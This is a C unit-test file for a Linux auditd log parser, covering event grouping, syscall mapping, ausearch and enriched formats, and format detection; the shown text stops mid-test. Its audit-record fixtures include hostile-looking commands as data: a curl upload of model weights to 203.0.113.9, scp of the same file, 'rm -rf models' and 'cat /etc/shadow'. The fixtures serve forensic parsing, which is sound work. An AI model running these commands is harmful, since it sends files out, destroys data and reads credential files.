/* t_auditd.c — the Linux audit log parser: events grouped by serial,
 * the ops each syscall becomes, ausearch -i and ENRICHED logs, and input
 * that is not an audit log.
 *
 * The counts asserted on the public fixtures were taken with grep and awk
 * (records: lines matching 'type=[A-Z_]* msg=audit('; syscalls: the
 * syscall= numbers of the SYSCALL lines), not with this parser. */
#include "unit.h"

#include "alibi/ingest.h"

/* ---- a sink that keeps everything ---- */

#define OP_SINK_PARSE auditd_parse
#include "op_sink.h"

static int
parse_text(struct sink *s, const char *text, size_t len)
{
	FILE *fp = fmemopen((void *)text, len, "r");
	if (!fp)
		return -1;
	int rc = parse_fp(s, fp, "inline.log");
	fclose(fp);
	return rc;
}

static int
parse_str(struct sink *s, const char *text)
{
	return parse_text(s, text, strlen(text));
}

static int
count(const struct sink *s, enum alibi_op_kind kind)
{
	int n = 0;
	for (size_t i = 0; i < s->n; i++)
		n += s->ops[i].kind == kind;
	return n;
}

/* CHECKs run on a missing op would crash; this reports it instead. */
#define NEED(cond) if (!(cond)) { CHECK(cond); return; }

static const char *
fixture(const char *rel)
{
	static char buf[4][512];
	static int k;
	k = (k + 1) % 4;
	return unit_fixture(rel, buf[k], sizeof buf[k]);
}

static size_t
read_head(const char *path, char *buf, size_t size)
{
	FILE *fp = fopen(path, "rb");
	size_t n = fp ? fread(buf, 1, size - 1, fp) : 0;
	buf[n] = '\0';
	if (fp)
		fclose(fp);
	return n;
}

/* ---- detection ---- */

static void
test_detect_scores(void)
{
	const char *raw =
		"type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=87 success=yes exit=0\n"
		"type=PATH msg=audit(1700000000.100:10): item=0 name=\"/tmp/x\" nametype=DELETE\n"
		"type=EOE msg=audit(1700000000.100:10):\n";
	CHECK(auditd_detect(raw, strlen(raw)) >= 90);
	const char *node = "node=web1 type=CWD msg=audit(1700000000.100:10): cwd=\"/\"\n";
	CHECK(auditd_detect(node, strlen(node)) >= 90);
	const char *interp =
		"----\n"
		"type=CWD msg=audit(11/29/2026 05:01:50.696:1234) : cwd=/root \n"
		"type=SYSCALL msg=audit(11/29/2026 05:01:50.696:1234) : arch=x86_64 syscall=openat \n";
	CHECK(auditd_detect(interp, strlen(interp)) >= 90);
	const char *strace = "909190 execve(\"/bin/true\", [\"true\"], 0x7ffc /* 53 vars */) = 0\n"
	                     "909190 unlink(\"type=SYSCALL msg=audit(\") = 0\n";
	CHECK_INT(auditd_detect(strace, strlen(strace)), 0);
	const char *json = "{\"type\": \"SYSCALL\", \"msg\": \"audit(1700000000.100:10)\"}\n";
	CHECK_INT(auditd_detect(json, strlen(json)), 0);
	const char *prose = "The audit log said type=SYSCALL but I removed it.\nNothing here.\n";
	CHECK_INT(auditd_detect(prose, strlen(prose)), 0);
	CHECK_INT(auditd_detect("", 0), 0);
	/* The table picks auditd for audit logs and leaves strace to strace. */
	const struct ingest_format *f = ingest_detect(raw, strlen(raw));
	CHECK(f && strcmp(f->name, "auditd") == 0);
	f = ingest_detect(strace, strlen(strace));
	CHECK(f && strcmp(f->name, "strace") == 0);
	CHECK(ingest_format_by_name("auditd") != NULL);

	/* Records quoted in YAML (indented, between "key: |" lines) count:
	 * the file holds audit records and nothing else. */
	static char head[INGEST_HEAD_BYTES + 1];
	const char *yaml = fixture("go-libaudit/ubuntu-17.04-linux-4.10.0.yaml");
	if (yaml) {
		size_t n = read_head(yaml, head, sizeof head);
		CHECK(auditd_detect(head, n) >= 90);
	}
	const char *laurel = fixture("laurel/shell-proc-trace.txt");
	if (laurel) {
		size_t n = read_head(laurel, head, sizeof head);
		CHECK(auditd_detect(head, n) >= 90);
		f = ingest_detect(head, n);
		CHECK(f && strcmp(f->name, "auditd") == 0);
	}
}

/* ---- the public fixtures ---- */

static void
test_fixture_go_libaudit_normal(void)
{
	struct sink s;
	const char *path = fixture("go-libaudit/normal.log");
	if (!path) {
		SKIP("fixture go-libaudit/normal.log absent");
		return;
	}
	CHECK_INT(parse_file(&s, path), 0);
	CHECK_INT(s.clock, ALIBI_CLOCK_EPOCH);
	CHECK_INT(s.records, 17);   /* grep -c 'type=[A-Z_]* msg=audit(' */
	CHECK_INT(s.bad, 0);
	/* 5 events: connect, execve, execve, connect, accept (no op) */
	NEED(s.n == 4);
	const struct got *g = &s.ops[0];
	CHECK_INT(g->kind, ALIBI_OP_connect);
	CHECK_STR(g->syscall, "connect");
	CHECK_STR(g->host, "169.254.169.254");
	CHECK_INT(g->port, 80);
	CHECK_STR(g->err_name, "EINPROGRESS");
	CHECK_INT(g->err_no, 115);
	CHECK_INT(g->ok, 1);        /* EINPROGRESS counts as made, as in strace */
	CHECK_INT(g->pid, 1172);
	CHECK_INT(g->ppid, 1);
	CHECK_INT(g->line, 1);
	CHECK_INT(g->bytes, -1);
	CHECK_INT(g->ts, INT64_C(1492037289295000));
	CHECK(g->raw && strncmp(g->raw, "type=SYSCALL msg=audit(1492037289.295:58):", 42) == 0);
	CHECK(g->raw && strstr(g->raw, "\ntype=SOCKADDR msg=audit(1492037289.295:58): saddr=02000050") != NULL);

	g = &s.ops[1];
	CHECK_INT(g->kind, ALIBI_OP_exec);
	CHECK_STR(g->path, "/usr/bin/grep");
	CHECK_STR(g->detail, "grep --color=auto mapping");
	CHECK_INT(g->pid, 13393);
	CHECK_INT(g->ppid, 12041);
	CHECK_INT(g->ok, 1);
	CHECK_INT(g->line, 3);
	g = &s.ops[2];
	CHECK_INT(g->kind, ALIBI_OP_exec);
	CHECK_STR(g->path, "/usr/bin/cat");
	CHECK_STR(g->detail, "cat securitybeat");
	CHECK_INT(g->pid, 13392);
	CHECK_INT(g->line, 8);

	/* AF_UNIX "public/pickup", looked up from CWD like a file name */
	g = &s.ops[3];
	CHECK_INT(g->kind, ALIBI_OP_connect);
	CHECK_STR(g->path, "/var/spool/postfix/public/pickup");
	CHECK_STR(g->host, NULL);
	CHECK_INT(g->port, -1);
	CHECK_INT(g->ok, 1);
	CHECK_STR(g->err_name, NULL);
	CHECK_INT(g->pid, 1229);
	CHECK_INT(g->line, 13);
	sink_free(&s);
}

static void
test_fixture_go_libaudit_yaml(void)
{
	struct sink s;
	const char *path = fixture("go-libaudit/ubuntu-17.04-linux-4.10.0.yaml");
	if (!path) {
		SKIP("fixture go-libaudit/ubuntu-17.04-linux-4.10.0.yaml absent");
		return;
	}
	CHECK_INT(parse_file(&s, path), 0);
	CHECK_INT(s.records, 36);   /* YAML lines are skipped, not bad */
	CHECK_INT(s.bad, 0);
	/* syscalls 87, 82, 59, 52, 51: the last two make no op */
	NEED(s.n == 3);
	CHECK_INT(s.ops[0].kind, ALIBI_OP_unlink);
	CHECK_STR(s.ops[0].path, "/etc/audit/rules.d/.audit.rules.swp");
	CHECK_INT(s.ops[0].pid, 3346);
	CHECK_INT(s.ops[0].ppid, 3309);
	CHECK_INT(s.ops[0].line, 4);
	CHECK(s.ops[0].raw && strncmp(s.ops[0].raw, "type=SYSCALL", 12) == 0);
	CHECK_INT(s.ops[1].kind, ALIBI_OP_rename);
	CHECK_STR(s.ops[1].syscall, "rename");
	CHECK_STR(s.ops[1].path, "/etc/audit/rules.d/audit.rules");
	CHECK_STR(s.ops[1].path2, "/etc/audit/rules.d/audit.rules~");
	CHECK_INT(s.ops[1].line, 12);
	CHECK_INT(s.ops[1].ts, INT64_C(1493125524089000));
	CHECK_INT(s.ops[2].kind, ALIBI_OP_exec);
	CHECK_STR(s.ops[2].path, "/usr/bin/docker");
	CHECK_STR(s.ops[2].detail, "docker inspect 721df12151a7");
	CHECK_INT(s.ops[2].line, 52);
	sink_free(&s);
}

static void
test_fixture_laurel_process_tree(void)
{
	struct sink s;
	const char *path = fixture("laurel/shell-proc-trace.txt");
	if (!path) {
		SKIP("fixture laurel/shell-proc-trace.txt absent");
		return;
	}
	CHECK_INT(parse_file(&s, path), 0);
	CHECK_INT(s.records, 39);   /* comments and blank lines are skipped */
	CHECK_INT(s.bad, 0);
	/* 5 clones (no op) and 4 execs; pid/ppid from awk over SYSCALL lines */
	NEED(s.n == 4);
	CHECK_INT(count(&s, ALIBI_OP_exec), 4);
	static const struct { int32_t pid, ppid; int64_t line; const char *path, *argv; } want[] = {
		{ 71505, 71432, 31, "/home/user/src/laurel/src/testdata/double-fork/test-script.sh",
		  "/bin/sh ./src/testdata/double-fork/test-script.sh" },
		{ 71507, 71505, 50, "/usr/bin/grep", "grep baz" },
		{ 71508, 71506, 61, "/bin/echo", "/bin/echo foo" },
		{ 71509, 71506, 69, "/bin/sed", "/bin/sed -e s/foo/bar/" },
	};
	for (size_t i = 0; i < 4; i++) {
		CHECK_INT(s.ops[i].pid, want[i].pid);
		CHECK_INT(s.ops[i].ppid, want[i].ppid);
		CHECK_INT(s.ops[i].line, want[i].line);
		CHECK_STR(s.ops[i].path, want[i].path);
		CHECK_STR(s.ops[i].detail, want[i].argv);
	}
	sink_free(&s);
}

/* ---- events ---- */

#define SC(ts_serial, rest) "type=SYSCALL msg=audit(" ts_serial "): arch=c000003e " rest "\n"
#define REC(type, ts_serial, rest) "type=" type " msg=audit(" ts_serial "): " rest "\n"

/* ">> f": O_WRONLY|O_CREAT|O_APPEND (0x441).  It makes f only when the
 * kernel made a new name, which the PATH record says. */
static void
test_appends(void)
{
	struct sink s;
	parse_str(&s,
		SC("1700000003.000:40", "syscall=257 success=yes exit=3 a0=ffffff9c a1=55d0 a2=441 a3=1b6 items=2 ppid=1 pid=40")
		REC("PATH", "1700000003.000:40", "item=0 name=\"/var/log/\" nametype=PARENT")
		REC("PATH", "1700000003.000:40", "item=1 name=\"/var/log/app.log\" nametype=NORMAL")
		SC("1700000003.000:41", "syscall=257 success=yes exit=3 a0=ffffff9c a1=55d0 a2=441 a3=1b6 items=2 ppid=1 pid=40")
		REC("PATH", "1700000003.000:41", "item=0 name=\"/var/log/\" nametype=PARENT")
		REC("PATH", "1700000003.000:41", "item=1 name=\"/var/log/new.log\" nametype=CREATE")
		SC("1700000003.000:42", "syscall=257 success=yes exit=3 a0=ffffff9c a1=55d0 a2=241 a3=1b6 items=2 ppid=1 pid=40")
		REC("PATH", "1700000003.000:42", "item=0 name=\"/var/log/\" nametype=PARENT")
		REC("PATH", "1700000003.000:42", "item=1 name=\"/var/log/app.log\" nametype=NORMAL"));
	CHECK_INT(s.bad, 0);
	NEED(s.n == 3);
	CHECK_INT(s.ops[0].kind, ALIBI_OP_open_write);   /* appended to */
	CHECK_STR(s.ops[0].path, "/var/log/app.log");
	CHECK_INT(s.ops[1].kind, ALIBI_OP_create);       /* appended to a new name */
	CHECK_STR(s.ops[1].path, "/var/log/new.log");
	CHECK_INT(s.ops[2].kind, ALIBI_OP_create);       /* O_TRUNC: written anew */
	sink_free(&s);
}

static void
test_interleaved_events(void)
{
	struct sink s;
	parse_str(&s,
		SC("1700000000.100:10", "syscall=257 success=yes exit=3 a0=ffffff9c a1=55d0 a2=241 a3=1b6 items=2 ppid=1 pid=100 comm=\"sh\" exe=\"/bin/sh\" key=(null)")
		SC("1700000000.200:11", "syscall=87 success=yes exit=0 a0=55d1 a1=0 a2=0 a3=0 items=2 ppid=1 pid=101 comm=\"rm\" exe=\"/bin/rm\" key=(null)")
		REC("CWD", "1700000000.100:10", "cwd=\"/home/u\"")
		REC("CWD", "1700000000.200:11", "cwd=\"/tmp\"")
		REC("PATH", "1700000000.200:11", "item=0 name=\"/tmp/\" nametype=PARENT")
		REC("PATH", "1700000000.100:10", "item=0 name=\"out/\" nametype=PARENT")
		REC("PATH", "1700000000.100:10", "item=1 name=\"out/../out/new.txt\" nametype=CREATE")
		REC("EOE", "1700000000.100:10", "")
		REC("PATH", "1700000000.200:11", "item=1 name=6D792066696C65 nametype=DELETE")
		REC("EOE", "1700000000.200:11", ""));
	CHECK_INT(s.records, 10);
	CHECK_INT(s.bad, 0);
	NEED(s.n == 2);
	CHECK_INT(s.ops[0].kind, ALIBI_OP_create);
	CHECK_STR(s.ops[0].syscall, "openat");
	CHECK_STR(s.ops[0].path, "/home/u/out/new.txt");
	CHECK_INT(s.ops[0].line, 1);
	CHECK_INT(s.ops[0].pid, 100);
	CHECK(s.ops[0].raw && strstr(s.ops[0].raw, "name=\"out/../out/new.txt\"") != NULL);
	CHECK(s.ops[0].raw && !strstr(s.ops[0].raw, "msg=audit(1700000000.200:11)"));
	CHECK_INT(s.ops[1].kind, ALIBI_OP_unlink);
	CHECK_STR(s.ops[1].path, "/tmp/my file");   /* hex name, relative to CWD */
	CHECK_INT(s.ops[1].line, 2);
	CHECK_INT(s.ops[1].ts, INT64_C(1700000000200000));
	sink_free(&s);
}

/* An event without EOE is complete once AUDITD_OPEN_EVENTS (32) newer
 * events have begun: a record of it that comes later is too late. */
static void
test_event_window(void)
{
	struct sink s;
	for (int others = 10; others <= 40; others += 30) {
		char *text = malloc(65536);
		NEED(text);
		size_t n = (size_t)sprintf(text, SC("1700000001.000:1", "syscall=87 success=yes exit=0 items=1 ppid=1 pid=9"));
		for (int i = 0; i < others; i++)
			n += (size_t)sprintf(text + n, SC("1700000001.000:%d", "syscall=84 success=yes exit=0 ppid=1 pid=9")
			                     REC("PATH", "1700000001.000:%d", "item=0 name=\"/d%d\" nametype=DELETE"),
			                     i + 2, i + 2, i);
		n += (size_t)sprintf(text + n, REC("PATH", "1700000001.000:1", "item=0 name=\"/late\" nametype=DELETE"));
		parse_text(&s, text, n);
		CHECK_INT(s.bad, 0);
		CHECK_INT(s.records, 2 + 2 * others);
		CHECK_INT(s.n, 1 + others);
		CHECK_INT(count(&s, ALIBI_OP_rmdir), others);
		if (s.n == (size_t)(1 + others) && others == 10) {
			CHECK_STR(s.ops[0].path, "/late");   /* still open: joined */
			CHECK_STR(s.ops[10].path, "/d9");
		} else if (s.n == (size_t)(1 + others)) {
			CHECK_INT(s.ops[0].kind, ALIBI_OP_unlink);
			CHECK_STR(s.ops[0].path, NULL);       /* flushed before /late came */
			CHECK_STR(s.ops[1].path, "/d0");
		}
		sink_free(&s);
		free(text);
	}
}

static void
test_file_calls(void)
{
	struct sink s;
	parse_str(&s,
		/* open(2) read-only, relative to CWD */
		SC("1700000002.000:20", "syscall=2 success=yes exit=3 a0=1 a1=0 a2=0 a3=0 items=1 ppid=1 pid=30")
		REC("CWD", "1700000002.000:20", "cwd=\"/srv\"")
		REC("PATH", "1700000002.000:20", "item=0 name=\"data/a.csv\" nametype=NORMAL")
		/* openat O_RDWR, failed with ENOENT */
		SC("1700000002.000:21", "syscall=257 success=no exit=-2 a0=ffffff9c a1=1 a2=2 a3=0 items=1 ppid=1 pid=30")
		REC("PATH", "1700000002.000:21", "item=0 name=\"/etc/shadow\" nametype=UNKNOWN")
		/* openat relative to a directory fd: the name stays as it is */
		SC("1700000002.000:22", "syscall=257 success=yes exit=4 a0=5 a1=1 a2=0 a3=0 items=1 ppid=1 pid=30")
		REC("CWD", "1700000002.000:22", "cwd=\"/srv\"")
		REC("PATH", "1700000002.000:22", "item=0 name=\"rel.txt\" nametype=NORMAL")
		/* unlinkat AT_REMOVEDIR */
		SC("1700000002.000:23", "syscall=263 success=yes exit=0 a0=ffffff9c a1=1 a2=200 a3=0 items=2 ppid=1 pid=30")
		REC("PATH", "1700000002.000:23", "item=0 name=\"/srv/\" nametype=PARENT")
		REC("PATH", "1700000002.000:23", "item=1 name=\"/srv/old\" nametype=DELETE")
		/* chmod 0755, fchownat 1000:-1, truncate 0, mkdir, linkat */
		SC("1700000002.000:24", "syscall=90 success=yes exit=0 a0=1 a1=1ed a2=0 a3=0 items=1 ppid=1 pid=30")
		REC("PATH", "1700000002.000:24", "item=0 name=\"/srv/run.sh\" nametype=NORMAL")
		SC("1700000002.000:25", "syscall=260 success=yes exit=0 a0=ffffff9c a1=1 a2=3e8 a3=ffffffff items=1 ppid=1 pid=30")
		REC("PATH", "1700000002.000:25", "item=0 name=\"/srv/f\" nametype=NORMAL")
		SC("1700000002.000:26", "syscall=76 success=yes exit=0 a0=1 a1=0 a2=0 a3=0 items=1 ppid=1 pid=30")
		REC("PATH", "1700000002.000:26", "item=0 name=\"/srv/log\" nametype=NORMAL")
		SC("1700000002.000:27", "syscall=83 success=yes exit=0 a0=1 a1=1ff items=2 ppid=1 pid=30")
		REC("PATH", "1700000002.000:27", "item=0 name=\"/srv/\" nametype=PARENT")
		REC("PATH", "1700000002.000:27", "item=1 name=\"/srv/new\" nametype=CREATE")
		SC("1700000002.000:28", "syscall=265 success=yes exit=0 a0=ffffff9c a1=1 a2=ffffff9c a3=2 items=3 ppid=1 pid=30")
		REC("PATH", "1700000002.000:28", "item=0 name=\"/srv/f\" nametype=NORMAL")
		REC("PATH", "1700000002.000:28", "item=1 name=\"/backup/\" nametype=PARENT")
		REC("PATH", "1700000002.000:28", "item=2 name=\"/backup/f\" nametype=CREATE")
		/* creat, and O_CREAT on /dev/null (creates nothing) */
		SC("1700000002.000:29", "syscall=85 success=yes exit=3 a0=1 a1=1a4 items=2 ppid=1 pid=30")
		REC("PATH", "1700000002.000:29", "item=1 name=\"/srv/out\" nametype=CREATE")
		SC("1700000002.000:30", "syscall=257 success=yes exit=3 a0=ffffff9c a1=1 a2=241 a3=1b6 items=1 ppid=1 pid=30")
		REC("PATH", "1700000002.000:30", "item=0 name=\"/dev/null\" nametype=NORMAL")
		/* O_PATH: a handle, no op; stat: no op */
		SC("1700000002.000:31", "syscall=257 success=yes exit=3 a0=ffffff9c a1=1 a2=200000 a3=0 items=1 ppid=1 pid=30")
		SC("1700000002.000:32", "syscall=4 success=yes exit=0 a0=1 items=1 ppid=1 pid=30")
		/* execve without EXECVE: argv from PROCTITLE */
		SC("1700000002.000:33", "syscall=59 success=yes exit=0 items=1 ppid=1 pid=31 exe=\"/usr/bin/vim.basic\"")
		REC("PROCTITLE", "1700000002.000:33", "proctitle=76696D002F6574632F61756469742F72756C65732E642F61756469742E72756C6573"));
	CHECK_INT(s.bad, 0);
	NEED(s.n == 12);
	CHECK_INT(s.ops[0].kind, ALIBI_OP_open_read);
	CHECK_STR(s.ops[0].path, "/srv/data/a.csv");
	CHECK_INT(s.ops[1].kind, ALIBI_OP_open_write);
	CHECK_INT(s.ops[1].ok, 0);
	CHECK_INT(s.ops[1].err_no, 2);
	CHECK_STR(s.ops[1].err_name, "ENOENT");
	CHECK_STR(s.ops[2].path, "rel.txt");
	CHECK_INT(s.ops[3].kind, ALIBI_OP_rmdir);
	CHECK_STR(s.ops[3].path, "/srv/old");
	CHECK_INT(s.ops[4].kind, ALIBI_OP_chmod);
	CHECK_STR(s.ops[4].detail, "0755");
	CHECK_INT(s.ops[5].kind, ALIBI_OP_chown);
	CHECK_STR(s.ops[5].detail, "1000:-1");
	CHECK_INT(s.ops[6].kind, ALIBI_OP_truncate);
	CHECK_STR(s.ops[6].detail, "0");
	CHECK_INT(s.ops[7].kind, ALIBI_OP_mkdir);
	CHECK_STR(s.ops[7].path, "/srv/new");
	CHECK_INT(s.ops[8].kind, ALIBI_OP_link);
	CHECK_STR(s.ops[8].path, "/srv/f");
	CHECK_STR(s.ops[8].path2, "/backup/f");
	CHECK_INT(s.ops[9].kind, ALIBI_OP_create);
	CHECK_STR(s.ops[9].path, "/srv/out");
	CHECK_INT(s.ops[10].kind, ALIBI_OP_open_write);
	CHECK_STR(s.ops[10].path, "/dev/null");
	CHECK_INT(s.ops[11].kind, ALIBI_OP_exec);
	CHECK_STR(s.ops[11].path, "/usr/bin/vim.basic");
	CHECK_STR(s.ops[11].detail, "vim /etc/audit/rules.d/audit.rules");
	CHECK_INT(s.records, 32);
	sink_free(&s);

	/* No PATH item: the hex-encoded exe= names the program; "node=" and
	 * a syslog prefix before "type=" are passed over. */
	parse_str(&s,
		"node=web1 type=SYSCALL msg=audit(1700000002.500:50): arch=c000003e syscall=59 success=yes exit=0 items=0 ppid=1 pid=32 exe=2F7573722F62696E2F707974686F6E322E373B3538643163636662202864656C6574656429\n"
		"Nov 14 22:13:20 web1 audispd: node=web1 type=EXECVE msg=audit(1700000002.500:50): argc=2 a0=\"python\" a1=\"it's here\"\n");
	CHECK_INT(s.bad, 0);
	NEED(s.n == 1);
	CHECK_STR(s.ops[0].path, "/usr/bin/python2.7;58d1ccfb (deleted)");
	CHECK_STR(s.ops[0].detail, "python 'it'\\''s here'");
	sink_free(&s);
}

/* rm -r deletes with unlinkat(dirfd, "name"): the kernel writes the bare
 * name, and a PARENT item named after the cwd (not the directory) whose
 * inode is the directory's.  Records as auditd wrote them for rm -rf
 * (tests/data/auditd/cleanup.audit.log), cut down. */
static void
test_dirfd_names_resolved_by_inode(void)
{
	struct sink s;
	parse_str(&s,
		SC("1700000003.000:30", "syscall=257 success=yes exit=3 a0=ffffff9c a1=1 a2=b0900 a3=0 items=1 ppid=1 pid=31")
		REC("CWD", "1700000003.000:30", "cwd=\"/home/op\"")
		REC("PATH", "1700000003.000:30", "item=0 name=\"/srv/models/agent2\" inode=77 dev=fe:00 mode=040755 nametype=NORMAL")
		SC("1700000003.000:31", "syscall=263 success=yes exit=0 a0=4 a1=1 a2=0 a3=0 items=2 ppid=1 pid=31")
		REC("CWD", "1700000003.000:31", "cwd=\"/home/op\"")
		REC("PATH", "1700000003.000:31", "item=0 name=\"/home/op\" inode=77 dev=fe:00 mode=040755 nametype=PARENT")
		REC("PATH", "1700000003.000:31", "item=1 name=\"model.safetensors\" inode=78 dev=fe:00 mode=0100644 nametype=DELETE")
		/* the same inode on another device is another directory */
		SC("1700000003.000:32", "syscall=263 success=yes exit=0 a0=4 a1=1 a2=0 a3=0 items=2 ppid=1 pid=31")
		REC("PATH", "1700000003.000:32", "item=0 name=\"/home/op\" inode=77 dev=fe:01 mode=040755 nametype=PARENT")
		REC("PATH", "1700000003.000:32", "item=1 name=\"other.bin\" inode=79 dev=fe:01 mode=0100644 nametype=DELETE"));
	CHECK_INT(count(&s, ALIBI_OP_unlink), 2);
	CHECK_STR(s.ops[1].path, "/srv/models/agent2/model.safetensors");
	CHECK_STR(s.ops[2].path, "other.bin");
	sink_free(&s);
}

static void
test_network_and_signals(void)
{
	struct sink s;
	parse_str(&s,
		/* IPv6 connect refused */
		SC("1700000003.000:40", "syscall=42 success=no exit=-111 a0=3 a1=7ff a2=1c a3=0 items=0 ppid=1 pid=50")
		REC("SOCKADDR", "1700000003.000:40", "saddr=0A0001BB0000000020010DB800000000000000000000000100000000")
		/* sendto with an address, 512 bytes */
		SC("1700000003.000:41", "syscall=44 success=yes exit=512 a0=3 a1=7ff a2=200 a3=0 items=0 ppid=1 pid=50")
		REC("SOCKADDR", "1700000003.000:41", "saddr=02000035080808080000000000000000")
		/* abstract unix socket */
		SC("1700000003.000:42", "syscall=42 success=yes exit=0 a0=3 a1=7ff a2=10 a3=0 items=0 ppid=1 pid=50")
		REC("SOCKADDR", "1700000003.000:42", "saddr=0100006B6579")
		/* kill(-1 as pid 1234, SIGKILL) and tgkill(1, 77, SIGTERM) */
		SC("1700000003.000:43", "syscall=62 success=yes exit=0 a0=4d2 a1=9 a2=0 a3=0 items=0 ppid=1 pid=50")
		SC("1700000003.000:44", "syscall=234 success=yes exit=0 a0=1 a1=4d a2=f a3=0 items=0 ppid=1 pid=50")
		/* AF_NETLINK: no op */
		SC("1700000003.000:45", "syscall=42 success=yes exit=0 a0=3 items=0 ppid=1 pid=50")
		REC("SOCKADDR", "1700000003.000:45", "saddr=100000000000000000000000"));
	CHECK_INT(s.bad, 0);
	NEED(s.n == 5);
	CHECK_INT(s.ops[0].kind, ALIBI_OP_connect);
	CHECK_STR(s.ops[0].host, "2001:db8::1");
	CHECK_INT(s.ops[0].port, 443);
	CHECK_INT(s.ops[0].ok, 0);
	CHECK_STR(s.ops[0].err_name, "ECONNREFUSED");
	CHECK_INT(s.ops[1].kind, ALIBI_OP_send);
	CHECK_STR(s.ops[1].host, "8.8.8.8");
	CHECK_INT(s.ops[1].port, 53);
	CHECK_INT(s.ops[1].bytes, 512);
	CHECK_STR(s.ops[2].path, "@key");
	CHECK_INT(s.ops[3].kind, ALIBI_OP_kill);
	CHECK_STR(s.ops[3].detail, "pid 1234 SIGKILL");
	CHECK_STR(s.ops[4].detail, "pid 77 SIGTERM");
	CHECK_STR(s.ops[4].syscall, "tgkill");
	sink_free(&s);
}

static void
test_ausearch_interpreted(void)
{
	struct sink s;
	parse_str(&s,
		"----\n"
		"type=PROCTITLE msg=audit(11/29/2026 05:01:50.696:1234) : proctitle=cat /etc/shadow \n"
		"type=PATH msg=audit(11/29/2026 05:01:50.696:1234) : item=0 name=/etc/shadow inode=1234 dev=fd:00 mode=file,640 ouid=root ogid=shadow rdev=00:00 nametype=NORMAL cap_fp=none \n"
		"type=CWD msg=audit(11/29/2026 05:01:50.696:1234) : cwd=/root \n"
		"type=SYSCALL msg=audit(11/29/2026 05:01:50.696:1234) : arch=x86_64 syscall=openat success=no exit=EACCES(Permission denied) a0=AT_FDCWD a1=0x7ffd4a5b a2=O_RDONLY|O_CLOEXEC a3=0x0 items=1 ppid=4000 pid=4001 auid=user uid=user comm=cat exe=/usr/bin/cat key=(null) \n"
		"----\n"
		"type=PROCTITLE msg=audit(11/29/2026 05:01:51.000:1235) : proctitle=curl -T /srv/models/w.bin http://203.0.113.9:8080/ \n"
		"type=SOCKADDR msg=audit(11/29/2026 05:01:51.000:1235) : saddr={ saddr_fam=inet laddr=203.0.113.9 lport=8080 } \n"
		"type=SYSCALL msg=audit(11/29/2026 05:01:51.000:1235) : arch=x86_64 syscall=connect success=yes exit=0 a0=0x5 a1=0x55 a2=0x10 a3=0x0 items=0 ppid=4000 pid=4002 comm=curl exe=/usr/bin/curl key=(null) \n"
		"----\n"
		"type=PROCTITLE msg=audit(11/29/2026 05:01:52.000:1236) : proctitle=rm -rf models \n"
		"type=PATH msg=audit(11/29/2026 05:01:52.000:1236) : item=1 name=models inode=9 nametype=DELETE \n"
		"type=PATH msg=audit(11/29/2026 05:01:52.000:1236) : item=0 name=/srv inode=8 nametype=PARENT \n"
		"type=CWD msg=audit(11/29/2026 05:01:52.000:1236) : cwd=/srv \n"
		"type=SYSCALL msg=audit(11/29/2026 05:01:52.000:1236) : arch=x86_64 syscall=unlinkat success=yes exit=0 a0=AT_FDCWD a1=0x55 a2=AT_REMOVEDIR a3=0x0 items=2 ppid=4000 pid=4003 comm=rm exe=/usr/bin/rm key=(null) \n"
		"----\n"
		"type=EXECVE msg=audit(11/29/2026 05:01:53.000:1237) : argc=3 a0=scp a1=w.bin a2=h:/tmp \n"
		"type=PATH msg=audit(11/29/2026 05:01:53.000:1237) : item=0 name=/usr/bin/scp nametype=NORMAL \n"
		"type=SYSCALL msg=audit(11/29/2026 05:01:53.000:1237) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x1 a1=0x2 a2=0x3 a3=0x0 items=2 ppid=4000 pid=4004 comm=scp exe=/usr/bin/scp key=(null) \n");
	CHECK_INT(s.bad, 0);
	CHECK_INT(s.records, 15);
	CHECK_INT(s.clock, ALIBI_CLOCK_EPOCH);
	NEED(s.n == 4);
	CHECK_INT(s.ops[0].kind, ALIBI_OP_open_read);
	CHECK_STR(s.ops[0].path, "/etc/shadow");
	CHECK_INT(s.ops[0].ok, 0);
	CHECK_STR(s.ops[0].err_name, "EACCES");
	CHECK_INT(s.ops[0].err_no, 13);
	CHECK_INT(s.ops[0].pid, 4001);
	CHECK_INT(s.ops[0].line, 2);    /* the event's first record */
	CHECK_INT(s.ops[0].ts, INT64_C(1795928510696000));  /* taken as UTC */
	CHECK_INT(s.ops[1].kind, ALIBI_OP_connect);
	CHECK_STR(s.ops[1].host, "203.0.113.9");
	CHECK_INT(s.ops[1].port, 8080);
	CHECK_INT(s.ops[2].kind, ALIBI_OP_rmdir);
	CHECK_STR(s.ops[2].path, "/srv/models");
	CHECK_INT(s.ops[3].kind, ALIBI_OP_exec);
	CHECK_STR(s.ops[3].path, "/usr/bin/scp");
	CHECK_STR(s.ops[3].detail, "scp w.bin h:/tmp");
	sink_free(&s);
}

static void
test_enriched_tail(void)
{
	struct sink s;
	/* An i386 process: the numbers mean nothing to the x86_64 table, the
	 * tail's SYSCALL= name does. */
	parse_str(&s,
		"type=SYSCALL msg=audit(1700000004.000:60): arch=40000003 syscall=38 success=yes exit=0 a0=1 a1=2 items=4 ppid=1 pid=70 auid=1000 uid=0 comm=\"mv\" exe=\"/bin/mv\" key=(null)\x1d" "ARCH=i386 SYSCALL=rename AUID=\"alice\" UID=\"root\"\n"
		"type=PATH msg=audit(1700000004.000:60): item=2 name=\"/srv/a\" nametype=DELETE OUID=\"root\"\n"
		"type=PATH msg=audit(1700000004.000:60): item=3 name=\"/srv/b\" nametype=CREATE\x1dOUID=\"root\" OGID=\"root\"\n"
		/* SADDR in the tail when the hex cannot be read */
		"type=SYSCALL msg=audit(1700000004.000:61): arch=c000003e syscall=42 success=yes exit=0 a0=3 items=0 ppid=1 pid=70\x1d" "ARCH=x86_64 SYSCALL=connect\n"
		"type=SOCKADDR msg=audit(1700000004.000:61): saddr=ZZ\x1dSADDR={ saddr_fam=inet laddr=10.1.2.3 lport=22 }\n"
		/* aarch64 numbers: openat is 56 there */
		"type=SYSCALL msg=audit(1700000004.000:62): arch=c00000b7 syscall=56 success=yes exit=3 a0=ffffffffffffff9c a1=1 a2=0 a3=0 items=1 ppid=1 pid=71\n"
		"type=PATH msg=audit(1700000004.000:62): item=0 name=\"/etc/hosts\" nametype=NORMAL\n"
		/* without a tail an i386 number is not guessed at */
		"type=SYSCALL msg=audit(1700000004.000:63): arch=40000003 syscall=10 success=yes exit=0 ppid=1 pid=72\n"
		"type=EOE msg=audit(1700000004.000:63):\n");
	NEED(s.n == 3);
	CHECK_INT(s.ops[0].kind, ALIBI_OP_rename);
	CHECK_STR(s.ops[0].path, "/srv/a");
